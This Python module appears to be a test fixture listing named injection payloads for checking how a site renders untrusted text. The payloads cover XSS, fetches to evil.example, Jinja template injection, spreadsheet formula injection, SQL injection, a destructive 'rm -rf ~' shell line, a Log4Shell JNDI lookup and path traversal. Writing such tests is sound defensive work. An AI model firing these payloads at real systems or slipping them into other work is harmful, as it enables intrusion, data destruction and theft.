"""Words that something might run or read as markup: HTML, Jinja, Markdown, formulas, addresses, entities.

None holds a figure, a date or a name, so that any field may hold it and no gate asks for evidence. What can run calls
`ran`, by which a browser test knows it.
"""

from __future__ import annotations

from collections.abc import Mapping

RUNS: Mapping[str, str] = {
    "script": "<script>RUN</script>",
    "script-in-capitals": "<SCRIPT>RUN</SCRIPT>",
    "script-closed-before": "X</script><script>RUN</script>",
    "script-with-type": '<script type="text/javascript">RUN</script>',
    "script-as-data": '<script src="data:text/javascript,RUN"></script>',
    "picture": '<img src=x onerror="RUN">',
    "picture-without-quotes": "<img src=x onerror=RUN>",
    "picture-behind-quotes": '"><img src=x onerror="RUN">',
    "picture-in-single-quotes": "'><img src=x onerror='RUN'>",
    "picture-with-slashes": '<img/src="x"/onerror=RUN>',
    "drawing": '<svg onload="RUN"></svg>',
    "drawing-animated": '<svg><set attributeName=x to=y onbegin="RUN"></set></svg>',
    "drawing-with-script": "<svg><script>RUN</script></svg>",
    "details": '<details open ontoggle="RUN">a</details>',
    "body": '<body onpageshow="RUN">',
    "video": '<video><source onerror="RUN"></video>',
    "sound": '<audio src=x onerror="RUN"></audio>',
    "input": '<input autofocus onfocus="RUN">',
    "style-event": '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="RUN">a</p>',
    "frame-of-words": "<iframe srcdoc='<script>RUN</script>'></iframe>",
    "frame-of-script": '<iframe src="javascript:RUN"></iframe>',
    "link-of-script": '<a class=go href="javascript:RUN">go</a>',
    "link-with-entity": '<a class=go href="&#xA;javascript:RUN">go</a>',
    "link-with-tab": '<a class=go href="java&Tab;script:RUN">go</a>',
    "button": '<button class=go onclick="RUN">go</button>',
    "form": '<form action="javascript:RUN"><button class=go>go</button></form>',
    "drawing-link": '<svg><a class=go xlink:href="javascript:RUN"><text>go</text></a></svg>',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>',
    "comment-that-ends": '<!--><img src=x onerror="RUN">-->',
    "cdata-that-ends": '<![CDATA[><img src=x onerror="RUN">]]>',
    "markdown-in-html": '<div markdown="span"><img src=x onerror="RUN"></div>',
}
"""Each runs its script in a browser, by itself or when what is of the class `go` is clicked, if it becomes HTML."""
FETCHES: Mapping[str, str] = {
    "sheet": '<style>@import "https://evil.example/x.css";</style>',
    "picture-elsewhere": '<img src="https://evil.example/x.png">',
    "sheet-elsewhere": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "script-elsewhere": '<script src="https://evil.example/x.js"></script>',
    "frame-elsewhere": '<iframe src="https://evil.example/"></iframe>',
    "object-elsewhere": '<object data="https://evil.example/x.svg"></object>',
    "drawing-elsewhere": '<svg><image href="https://evil.example/x.png"></image></svg>',
    "poster": '<video poster="https://evil.example/x.png"></video>',
    "background": '<p style="background:url(https://evil.example/x.png)">a</p>',
    "markdown-picture": "![a](https://evil.example/x.png)",
}
"""Each asks another host, if it becomes HTML."""
MARKUP: Mapping[str, str] = {
    "jinja-expression": "{{ many * many }}",
    "jinja-class": "{{ ''.__class__.__mro__ }}",
    "jinja-block": "{% for a in b %}",
    "jinja-comment": "A {# hidden #} b",
    "jinja-end": "A }} b %} c #}",
    "jinja-raw": "{% endraw %}{{ config }}{% raw %}",
    "jinja-macro-of-ours": "{{ actor('ada') }}",
    "python-format": "{site} %(a)s ${a} $(id) `id`",
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content=";url=https://evil.example/">',
    "prefetch": '<link rel="prefetch" href="https://evil.example/">',
    "comment": "<!-- hidden -->",
    "comment-open": "A <!-- b",
    "comment-end": "A --> b",
    "instruction": "<?php echo a ?>",
    "doctype": "<!DOCTYPE html>",
    "cdata": "]]><b>a</b>",
    "tag": "<b>bold</b> <i>a",
    "tag-open": "A <b",
    "tag-end": "</div></article></main>",
    "text-area": "</textarea></title><header>a",
    "plain-text": "<plaintext>",
    "template": "<template><p>a",
    "angle": "A < b > c",
    "entities": "&lt;b&gt; &amp; &quot; &nbsp; &#xab;",
    "entity-open": "A &lt b &copyit; c",
    "quotes": "A \" b ' c ` d",
    "attribute": 'A" onmouseover="b',
    "md-link": "[click](https://evil.example/)",
    "md-link-of-script": "[click](javascript:a)",
    "md-reference": "[a]: https://evil.example/",
    "md-autolink": "<https://evil.example/>",
    "md-heading": "# A heading",
    "md-heading-below": "A\n===",
    "md-list": "- a",
    "md-quote": "> a",
    "md-rule": "---",
    "md-strong": "**a** __b__ ***c*** _d_ ~~e~~ ==f== ^g^",
    "md-code": "`a` ```b```",
    "md-fence": "~~~ python",
    "md-block": '<div markdown="span">**a**</div>',
    "md-admonition": "!!! note",
    "md-details": "??? note",
    "md-emoji": ":smile: :material-account:",
    "md-attributes": "A {: .b #c onclick=d } {.e}",
    "md-toc": "[TOC]",
    "md-table": "| a | b |",
    "md-footnote": "[^a] a[^b]",
    "md-abbreviation": "*[a]: b",
    "md-tasks": "[ ] a [x] b",
    "md-wiki": "[[a link|]] [[|a]] [[A b]]",
    "md-mention": "@user #tag https://evil.example www.evil.example a@b.example",
    "md-math": "$a$ $$b$$ \\(c\\)",
    "md-escape": "\\* \\_ \\\\ \\[ \\",
    "md-star-alone": "A * b ** c",
    "formula": '=HYPERLINK("http://evil.example","x")',
    "formula-plus": "+cmd|' /C calc'!A",
    "formula-minus": "-a+b",
    "formula-at": "@SUM(a)",
    "separators": "A, b; c | d",
    "path": "../../etc/passwd",
    "windows-path": "C:\\Users\\x",
    "null-word": "null",
    "not-a-number": "NaN",
    "prototype": "__proto__ constructor",
    "question": "' OR a='a'; DROP TABLE facts; --",
    "shell": "; rm -rf ~ && $(id) `id`",
    "log": "${jndi:ldap://evil.example/a}",
    "header": "A\nSet-Cookie: b",
    "line-break": "A\nb",
    "search-words": "+a -b ^c title:d e~f g*",
    "emoji": "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\u200d\u2620\ufe0f",
    "right-to-left": "\u05e9\u05dc\u05d5\u05dd (a) \u200f\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
    "long-word": "A" * 300,
    "many-quotes": "\"'\"'\"'<>&" * 9,
}
"""Each would be lost, changed or taken for something else by one reader or another."""


def script_of(name: str) -> str:
    """A script that tells which payload ran, without what HTML or a field would mind: quotes, spaces, figures."""
    return f"top.ran=(top.ran||``)+`{name}.`;void``"


def payloads() -> Mapping[str, str]:
    """Every payload by its name."""
    runs = {name: words.replace("RUN", script_of(name)) for name, words in RUNS.items()}
    return {**runs, **FETCHES, **MARKUP}
